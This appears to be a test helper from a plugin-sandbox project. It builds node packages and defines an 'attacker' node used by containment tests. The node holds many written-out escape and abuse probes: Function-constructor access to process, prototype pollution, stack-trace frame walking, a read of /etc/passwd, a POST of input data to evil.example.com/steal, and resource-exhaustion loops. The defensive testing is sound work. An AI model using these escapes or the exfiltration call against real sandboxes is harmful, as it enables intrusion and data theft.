import { mkdir, rm, writeFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import { packPackageDir } from '@medflow/create-node';

const ROOT = fileURLToPath(new URL('../../test-output/node-packages/', import.meta.url));

export interface PackageSource {
  name: string;
  version?: string;
  nodes: string[];
  capabilities?: Record<string, unknown>;
  limits?: Record<string, unknown>;
  /** src/index.ts of the package. */
  source: string;
}

/**
 * Writes a node package from source and packs it with create-node, as a developer would. The folder is
 * inside the repository so the bundler finds @medflow/sdk in node_modules.
 */
export async function buildPackage(spec: PackageSource): Promise<{ dir: string; file: string; integrity: string; bytes: Buffer }> {
  const version = spec.version ?? '1.0.0';
  const dir = join(ROOT, `${spec.name.replace(/[@/]/g, '_')}-${version}`);
  await rm(dir, { recursive: true, force: true });
  await mkdir(join(dir, 'src'), { recursive: true });
  await writeFile(join(dir, 'package.json'), JSON.stringify({
    name: spec.name, version, type: 'module', license: 'MIT',
    medflow: { sdk: '^0.1.0', bundle: 'dist/medflow-bundle.js', nodes: spec.nodes, capabilities: spec.capabilities ?? {}, limits: spec.limits ?? {} },
  }, null, 2));
  await writeFile(join(dir, 'src/index.ts'), spec.source);
  const packed = await packPackageDir(dir);
  const { readFile } = await import('node:fs/promises');
  return { dir, file: packed.file, integrity: packed.integrity, bytes: await readFile(packed.file) };
}

/** A package whose one node misbehaves as its config says: the containment tests' attacker. */
export const ATTACKER_SOURCE = String.raw`
import { defineNode, port, PortKinds, t, z } from '@medflow/sdk';

const g = globalThis as any;
export default [defineNode({
  type: 'evil/attack', version: 1,
  display: { title: t('攻撃', 'Attack'), category: 'utility', description: t('封じ込めテスト用', 'For containment tests') },
  inputs: { text: port(PortKinds.text, { optional: true }) },
  outputs: { out: port(PortKinds.json) },
  config: z.object({ attack: z.string() }),
  async execute(ctx, inputs) {
    switch (ctx.config.attack) {
      case 'ok': return { out: { echo: inputs.text ?? null, leftover: g.leftover ?? null } };
      case 'loop': for (;;) {}
      case 'loop-after-await': await null; for (;;) {}
      case 'loop-after-host-call': try { await ctx.services.http.request({ url: 'https://lab.hospital.local/x', method: 'GET' }); } catch {} for (;;) {}
      case 'never-settles': await new Promise(() => {}); return { out: 1 };
      case 'memory': { const hoard: string[] = []; for (let i = 0; ; i++) hoard.push('x'.repeat(4e6) + i); }
      case 'recursion': { const deep = (n: number): number => deep(n + 1) + 1; return { out: deep(0) }; }
      case 'globals': return { out: [typeof g.process, typeof g.require, typeof g.module, typeof g.Buffer, typeof g.fetch, typeof g.setTimeout, typeof g.WebAssembly, typeof g.SharedArrayBuffer] };
      case 'function-constructor': return { out: ({} as any).constructor.constructor('return typeof process')() };
      case 'function-constructor-process': return { out: ({} as any).constructor.constructor('return process')().pid };
      case 'bridge-walk': {
        const host = g.__medflowHost;
        const walked = [host.call.constructor('return typeof process')(), Object.getOwnPropertyNames(g).filter((n: string) => /ivm|isolated|host|medflow/i.test(n))];
        return { out: walked };
      }
      case 'pollute': {
        (Object.prototype as any).polluted = 'yes';
        (Array.prototype as any).push = () => 0;
        return { out: JSON.parse('{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {"isAdmin": true}}, "safe": 1}') };
      }
      case 'read-file-import': return { out: await (new Function('return import("node:fs")'))() };
      case 'read-file-bridge': return { out: JSON.parse((await g.__medflowHost.call('files.read', JSON.stringify({ fileId: 'a'.repeat(64), name: 'x', mediaType: 'text/plain', size: 1 }))).json) };
      case 'read-file-unknown-method': return { out: await g.__medflowHost.call('fs.readFile', '"/etc/passwd"') };
      case 'network-undeclared': return { out: await ctx.services.http.request({ url: 'https://evil.example.com/steal', method: 'POST', body: inputs.text ?? '' }) };
      case 'network-bridge': return { out: await g.__medflowHost.call('http.request', JSON.stringify({ url: 'https://evil.example.com/', method: 'GET' })) };
      case 'huge-output': return { out: 'x'.repeat(12_000_000) };
      case 'throw-number': throw 42;
      case 'throw-null': throw null;
      case 'throw-undefined': throw undefined;
      case 'throw-object': throw { code: 'NOT_AN_ERROR', category: 'SYSTEM' };
      case 'throw-symbol': throw Symbol('s');
      case 'throw-proxy': throw new Proxy({}, { get() { throw new Error('gotcha'); } });
      case 'throw-getter-loop': throw { get message() { for (;;) {} } };
      case 'log-flood': for (let i = 0; i < 100000; i++) ctx.log.info('line ' + i); return { out: 'done' };
      case 'leave-state': g.leftover = inputs.text; return { out: 'left' };
      case 'non-json': return { out: { f() {}, n: 1n } as any };
      case 'getter-trap': return { out: Object.defineProperty({ a: 1 }, 'probe', { enumerable: true, get() { try { return typeof (({} as any).constructor.constructor('return process')()); } catch (e) { return 'threw'; } } }) };
      case 'proxy-trap': return { out: new Proxy({}, { ownKeys() { throw new Error('trap on the host?'); }, get() { throw new Error('trap on the host?'); } }) };
      case 'thenable-loop': return { then() { for (;;) {} } } as any;
      case 'tojson-trap': return { out: { toJSON() { for (;;) {} } } };
      case 'tojson-escape': return { out: { toJSON() { return { reached: typeof (globalThis as any).process, host: Object.getOwnPropertyNames(globalThis).filter((n: string) => /ivm|isolated|require/i.test(n)) }; } } };
      case 'prepare-stack-trace': {
        (Error as any).prepareStackTrace = (_e: unknown, frames: any[]) => frames;
        const frames = (new Error('probe') as any).stack as any[];
        const escaped = Array.isArray(frames) && frames.some((f) => { try { return typeof f.getFunction?.()?.constructor('return process')() === 'object'; } catch { return false; } });
        return { out: { escaped, frames: Array.isArray(frames) ? frames.length : typeof frames } };
      }
      case 'pst-only': (Error as any).prepareStackTrace = (_e: unknown, frames: any[]) => frames; return { out: 1 };
      case 'pst-frames': { (Error as any).prepareStackTrace = (_e: unknown, frames: any[]) => frames; const fr = (new Error('p') as any).stack; return { out: fr.map((f: any) => String(f.getFunctionName?.())) }; }
      case 'prepare-stack-trace-throw': (Error as any).prepareStackTrace = () => { throw new Error('from prepareStackTrace'); }; throw new Error('after prepareStackTrace');
      case 'atomics-wait': return { out: (Atomics as any).wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 60_000) };
      default: throw new Error('unknown attack ' + ctx.config.attack);
    }
  },
})];
`;
